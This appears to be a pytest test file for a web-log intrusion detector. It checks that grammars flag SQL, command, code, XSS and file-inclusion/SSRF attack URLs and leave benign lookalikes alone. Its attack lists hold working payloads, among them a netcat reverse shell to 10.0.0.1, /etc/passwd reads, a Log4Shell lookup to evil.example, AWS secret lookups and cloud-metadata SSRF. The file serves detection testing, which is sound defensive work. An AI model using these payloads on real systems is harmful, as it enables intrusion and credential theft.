"""Injection grammars: what attackers really send is caught in any spelling; prose that names the same words is not."""

from __future__ import annotations

from pathlib import Path

import pytest

from alerts.grammars import GRAMMARS
from alerts.rules import RuleError, load_rule_file
from bench._attack_corpora import benign_lookalikes, source_ip, write_log
from tests.alerts.conftest import replay

LOOKALIKES = Path(__file__).with_name("data") / "benign_lookalikes.txt"

ATTACKS = {
    "sqli": [
        "/item?id=1%27%20or%20%271%27=%271",
        "/item?id=1+OR+1=1--",
        "/item?id=-1+union/**/select+1,2,version()--",
        "/item?id=1;DROP%20TABLE%20users",
        "/login?user=admin%27--",
        "/item?id=1%20AND%20SLEEP(5)",
        "/item?id=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--%20-",
        "/news/1%20UNION%20SELECT%20username,password%20FROM%20users",
        "/item?id=0/*!50000union*/+select+1,2",
        "/item?id=1%20and%20ascii(substring((select%20database()),1,1))%3E64",
    ],
    "command": [
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        "/ping?host=127.0.0.1|id",
        "/ping?host=x%60whoami%60",
        "/ping?host=$(uname%20-a)",
        "/ping?host=;cat${IFS}/etc/passwd",
        "/ping?host=;cat$IFS$9/etc/passwd",
        "/ping?host=;w%27h%27o%27am%27i",
        "/ping?host=;{cat,/etc/passwd}",
        "/ping?host=;/???/c?t%20/e??/p?ss?d",
        "/ping?host=%26%26%20powershell%20-enc%20ZQBjAGgAbwA=",
        "/ping?host=|nc%20-e%20/bin/sh%2010.0.0.1%204444",
        "/run?cmd=%26%20for%20/f%20%25a%20in%20(%27dir%27)%20do%20echo%20%25a",
    ],
    "code": [
        "/x?q=%3C?php%20system($_GET[%27c%27]);%20?%3E",
        "/x?q=base64_decode(%27ZWNobyAx%27)",
        "/x?page=php://filter/convert.base64-encode/resource=index.php",
        "/x?q=%3C!--%23exec%20cmd=%22id%22--%3E",
        "/x?name={{7*7}}",
        "/x?name={{%27%27.__class__.__mro__[1].__subclasses__()}}",
        "/x?q=${T(java.lang.Runtime).getRuntime().exec(%27id%27)}",
        "/x?redirect=%25{(%23_memberaccess[%27allowStaticMethodAccess%27]=true)}",
        "/x?q=${jndi:ldap://evil.example/a}",
        "/x?q=${env:AWS_SECRET_ACCESS_KEY}",
        "/x?q=${${lower:j}ndi:dns://x}",
        "/x?q=require(%27child_process%27).exec(%27id%27)",
        # a PHP function call standing as code stands, even with an everyday name or comments before its '('
        "/x?q=str_rot13()",
        "/x/md5(1)",
        "/x?q=readfile%23x%0A(%27/etc/hosts%27)",
        "/x?q=%27passthru%27(%27id%27)",
        "/x?q=FOObase64_decode()",
        # php.ini directives set through a value, $ { } variable-variables, data: URIs, scheme-less internal hosts
        "/x?cfg=allow_url_include%3DOn",
        "/x?cfg=auto_prepend_file=/tmp/x",
        "/x?q=$%20{%20HOME%20}",
        "/x?src=data:application/x-httpd-php,x",
    ],
    "xss": [
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/search?q=%3Csvg/onload=alert(1)%3E",
        "/profile?url=javascript:alert(document.cookie)",
        "/profile?url=java%09script:alert(1)",
        "/search?q=%22%20onmouseover=%22alert(1)",
        "/search?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
    ],
    "rfi": [
        "/index.php?page=http://203.0.113.9/shell.txt?",
        "/index.php?include=https://evil.example/c99.php",
        "/timthumb.php?src=http://66.240.183.75/crash.php",
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/fetch?url=gateway.docker.internal/admin",
        "/fetch?url=localhost:8080",
        # an address in any notation a resolver accepts, under any scheme a fetch library opens
        "/fetch?url=gopher://0x7f.0x0.0x0.0x1:6379/_INFO",
        "/fetch?url=imap://2130706433/",
        "/fetch?url=http://0177.1/",
        "/fetch?url=rsync://[::ffff:127.0.0.1]/x",
        "/fetch?url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/",
    ],
}
PROSE = {
    "sqli": ["/blog/union-select-from-the-menu", "/search?q=O%27Brien", "/search?q=rock+and+roll",
             "/search?q=1+or+2+bedroom+apartments", "/search?q=delete+from+my+account"],
    "command": ["/search?q=tom+%26+jerry", "/search?q=cat+food", "/search?q=terms%3B+more+info",
                "/search?q=bash+scripting+for+beginners"],
    "code": ["/search?q=the+system+(2020+film)", "/wiki/Log4j", "/search?q=%7B%7Bname%7D%7D+braces",
             "/search?q=how+to+use+substr()+in+php", "/docs/printf()-format-strings", "/files/report(1).pdf",
             "/x?link=${WEBLOC}/view.php", "/search?q=exec+(", "/search?q=memory+limit+=+512M",
             "/x?q=data+science"],
    "xss": ["/search?q=javascript%3A+the+good+parts", "/x?q=%3Ca+href=%22/foo.html%22%3Efoo%3C/a%3E",
            "/x?q=%3Cb%3Ebold%3C/b%3E"],
    "rfi": ["/redirect?url=https://www.example.com/welcome", "/img?src=https://cdn.example.com/logo.png",
            "/x?server=localhost", "/x?u=ftp://ftp.example.org/pub/", "/x?at=time:10.30",
            "/x?u=spotify:track:6rqhFgbbKwnb9MLmUQDhG6", "/x?color=0xABCDEF"],
}  # fmt: skip


@pytest.mark.parametrize(("grammar", "url"), [(g, u) for g, urls in ATTACKS.items() for u in urls])
def test_attacks_are_read_as_injection(grammar, url):
    assert GRAMMARS[grammar].reader("url_original")(url), url


@pytest.mark.parametrize(("grammar", "url"), [(g, u) for g, urls in PROSE.items() for u in urls])
def test_prose_naming_the_same_words_is_not(grammar, url):
    assert not GRAMMARS[grammar].reader("url_original")(url), url


def test_user_agent_punctuation_is_not_a_command_line():
    agent = "Mozilla/5.0 (compatible; Embedly/0.2; snap; +http://support.embed.ly/)"
    assert not GRAMMARS["command"].reader("user_agent_original")(agent)
    assert GRAMMARS["command"].reader("user_agent_original")("() { :; }; /bin/bash -c 'id'")


def test_every_grammar_candidate_pattern_passes_what_it_accepts():
    """The RE2 pre-filter must never drop a value the grammar would flag (it only saves time)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    for grammar, urls in ATTACKS.items():
        found = pc.match_substring_regex(pa.array(urls), GRAMMARS[grammar].candidates("url_original"))
        assert all(found.to_pylist()), grammar


def test_look_alike_set_is_silent_through_the_default_pack(default_rules, tmp_path):
    cases = benign_lookalikes(LOOKALIKES)
    assert len(cases) >= 100
    log = tmp_path / "lookalikes.log"
    write_log(cases, log)
    alerts, reports = replay(default_rules, [log])
    assert sum(r.parsed for r in reports) == len(cases)
    by_ip = {source_ip(i): case.uri for i, case in enumerate(cases)}
    assert not alerts, [(a["rule_id"], by_ip.get(a["source_ip"])) for a in alerts]


def test_attacks_alert_through_the_default_pack(default_rules, tmp_path):
    from bench._attack_corpora import Case

    cases = [Case(f"{g}#{i}", g, "GET", u) for g, urls in ATTACKS.items() for i, u in enumerate(urls)]
    log = tmp_path / "attacks.log"
    write_log(cases, log)
    alerts, _ = replay(default_rules, [log])
    alerted = {a["source_ip"] for a in alerts}
    assert [c.uri for i, c in enumerate(cases) if source_ip(i) not in alerted] == []


def test_unknown_grammar_is_named(tmp_path):
    rule = tmp_path / "r.yaml"
    rule.write_text(
        "- {id: x, kind: signature, title: t, severity: low, category: c, technique: T1190, description: d,\n"
        "   false_positives: f, match: [{field: url_original, grammar: sqlx}]}\n"
    )
    with pytest.raises(RuleError, match=r"match\[0\]\.grammar: unknown grammar 'sqlx'"):
        load_rule_file(rule)
